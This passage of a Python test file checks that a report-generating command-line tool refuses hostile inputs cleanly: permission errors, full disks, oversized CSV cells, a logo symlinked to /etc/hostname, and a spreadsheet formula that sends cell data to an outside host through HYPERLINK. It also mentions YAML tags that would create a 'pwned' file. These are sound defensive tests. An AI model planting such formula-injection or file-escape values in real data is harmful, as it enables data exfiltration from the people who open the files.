    validated = run_diagnose(["validate", str(secret)], tmp_path, extra=unprivileged)
    secret.chmod(0o644)
    for result in (run, validated):
        assert result.code == 2 and "Traceback" not in result.output
    assert run.stderr.splitlines() == [f"{secret}: cannot be read: permission denied"]
    assert validated.stderr.splitlines() == [f"{secret}: cannot be read: permission denied"]
    assert not out.exists() and leftovers(tmp_path) == []


def test_unreadable_table_in_a_batch(tmp_path: Path, unprivileged) -> None:
    table = tmp_path / "responses.csv"
    shutil.copy(HOSTILE / "csv" / "nan-cell.csv", table)
    table.chmod(0)
    out = tmp_path / "out"
    run = run_diagnose(["batch", str(table), "--out-dir", str(out), "--format", "json", "--jobs", "1"], tmp_path,
                       extra=unprivileged)
    table.chmod(0o644)
    assert_refused(run, 1, f"{table.name}: cannot be read: permission denied", out)


def test_path_through_a_file_is_a_located_error(tmp_path: Path) -> None:
    """What root cannot be kept out of by chmod, the kernel still refuses: a path that
    goes through a regular file as if it were a folder."""
    (tmp_path / "notes.txt").write_text("not a folder")
    path = tmp_path / "notes.txt" / "answers.yaml"
    out = tmp_path / "report.json"
    run = run_diagnose(["report", str(path), "--format", "json", "-o", str(out)], tmp_path)
    assert_refused(run, 2, f"{path}: cannot be read: Not a directory", out)


@pytest.mark.parametrize("command_name", ["report", "template", "batch"])
def test_read_only_output_folder(command_name: str, tmp_path: Path, unprivileged) -> None:
    folder = tmp_path / "read-only"
    folder.mkdir()
    folder.chmod(0o555)
    answers = str(HOSTILE / ANSWERS)
    try:
        if command_name == "report":
            target = folder / "report.json"
            run = run_diagnose(["report", answers, "--format", "json", "-o", str(target)], tmp_path, extra=unprivileged)
            expected = f"{target}: cannot write: permission denied"
        elif command_name == "template":
            target = folder / "blank.yaml"
            run = run_diagnose(["template", "-o", str(target)], tmp_path, extra=unprivileged)
            expected = f"{target}: cannot write: permission denied"
        else:
            run = run_diagnose(["batch", answers, "--out-dir", str(folder), "--format", "json", "--jobs", "1"],
                               tmp_path, extra=unprivileged)
            target = folder
            # found out before any work, when the summary's temporary file cannot be made
            expected = f"{folder}/summary.csv: cannot write: permission denied"
    finally:
        folder.chmod(0o755)
    if command_name == "batch":  # a usage error, nothing run
        assert "Traceback" not in run.output and run.code == 2
        assert run.stderr.splitlines() == [expected]
        assert list(folder.iterdir()) == []
    else:
        assert_refused(run, 2, expected, target)


@pytest.mark.parametrize("fmt", ["json", "html"])
def test_full_disk_while_writing_a_report(fmt: str, tmp_path: Path) -> None:
    """RLIMIT_FSIZE makes the kernel fail the write part-way (EFBIG), as a full disk does
    (ENOSPC): the half-written temporary file is removed, no report appears."""
    target = tmp_path / f"report.{fmt}"
    run = run_diagnose(["report", str(HOSTILE / ANSWERS), "--format", fmt, "-o", str(target)], tmp_path,
                       extra=small_file_size_limit())
    assert_refused(run, 2, f"{target}: cannot write: File too large", target)


def test_full_disk_while_making_a_pdf(tmp_path: Path) -> None:
    """For a PDF, WeasyPrint first writes the fonts to a temporary folder: on a full disk
    that write fails before ours, with no file name to show."""
    target = tmp_path / "report.pdf"
    run = run_diagnose(["report", str(HOSTILE / ANSWERS), "-o", str(target)], tmp_path,
                       extra=small_file_size_limit())
    assert_refused(run, 2, "diagnose: cannot write: File too large (is the disk or the temporary folder full?)",
                   target)


def test_full_disk_in_a_batch(tmp_path: Path) -> None:
    out = tmp_path / "out"
    run = run_diagnose(["batch", str(HOSTILE / ANSWERS), "--out-dir", str(out), "--format", "json", "--jobs", "1"],
                       tmp_path, extra=small_file_size_limit())
    assert_refused(run, 1, f"{out}/brightline-supplies-ltd--answers.json: cannot write: File too large", out)


@pytest.mark.skipif(not os.path.exists("/dev/full"), reason="needs /dev/full")
def test_full_stdout(tmp_path: Path) -> None:
    with open("/dev/full", "wb") as full:
        run = run_diagnose(["report", str(HOSTILE / ANSWERS), "--format", "json", "-o", "-"], tmp_path,
                           stdout=full.fileno())
    assert "Traceback" not in run.output
    assert run.code == 2
    assert run.stderr.splitlines() == ["standard output: cannot write: No space left on device"]


def test_logo_symlink_out_of_the_brand_folder(tmp_path: Path) -> None:
    brand = tmp_path / "brand"
    brand.mkdir()
    (brand / "logo.png").symlink_to("/etc/hostname")
    (brand / "brand.yaml").write_text("kind: brand\nname: Raman Advisory\nlogo: logo.png\n", encoding="utf-8")
    out = tmp_path / "report.html"
    run = run_diagnose(["report", str(HOSTILE / ANSWERS), "--brand", str(brand / "brand.yaml"), "--format", "html",
                        "-o", str(out)], tmp_path)
    assert_refused(run, 2, f"{brand / 'brand.yaml'}:3:7: logo: 'logo.png' is outside the brand file's folder "
                           f"({brand.resolve()}); expected a file next to the brand file or below it", out)


def test_huge_csv_cell_is_refused(tmp_path: Path) -> None:
    """A quoted cell of 200,000 characters is over csv's field limit: a located error."""
    text = (HOSTILE / "csv" / "nan-cell.csv").read_text(encoding="utf-8")
    header, row = text.splitlines()[:2]
    table = tmp_path / "huge-cell.csv"
    table.write_text(header + "\n" + '"' + "N" * 200_000 + '"' + row[row.index(","):] + "\n", encoding="utf-8")
    out = tmp_path / "out"
    run = run_diagnose(["batch", str(table), "--out-dir", str(out), "--format", "json", "--jobs", "1"], tmp_path)
    assert_refused(run, 1, f"{table.name}:2: cannot read the table: field larger than field limit (131072); "
                           "expected short answers, one row per company", out)


def test_formula_in_a_company_name_is_inert_in_the_summary(tmp_path: Path) -> None:
    """A client's table naming a company `=HYPERLINK(...)` renders, but the summary cell is
    text for a spreadsheet, not a formula; the JSON keeps the name as it was."""
    text = (HOSTILE / "csv" / "nan-cell.csv").read_text(encoding="utf-8").replace(",nan,", ",160,")
    evil = '=HYPERLINK("http://example.com/?"&A1,"open")'
    table = tmp_path / "formula.csv"
    table.write_text(text.replace("Brightline Supplies Ltd", '"' + evil.replace('"', '""') + '"'), encoding="utf-8")
    out = tmp_path / "out"
    run = run_diagnose(["batch", str(table), "--out-dir", str(out), "--format", "json", "--jobs", "1"], tmp_path)
    assert run.code == 0, run.output
    summary_csv = (out / "summary.csv").read_text(encoding="utf-8-sig")
    assert ",\"'=HYPERLINK(" in summary_csv and ",\"=HYPERLINK" not in summary_csv
    summary = json.loads((out / "summary.json").read_text(encoding="utf-8"))
    assert summary["results"][0]["company"] == evil


def test_nothing_runs_from_python_tags() -> None:
    """The tags in the corpus would `touch pwned` if anything constructed them."""
    assert not (HOSTILE / "pwned").exists()
    assert not Path("pwned").exists()
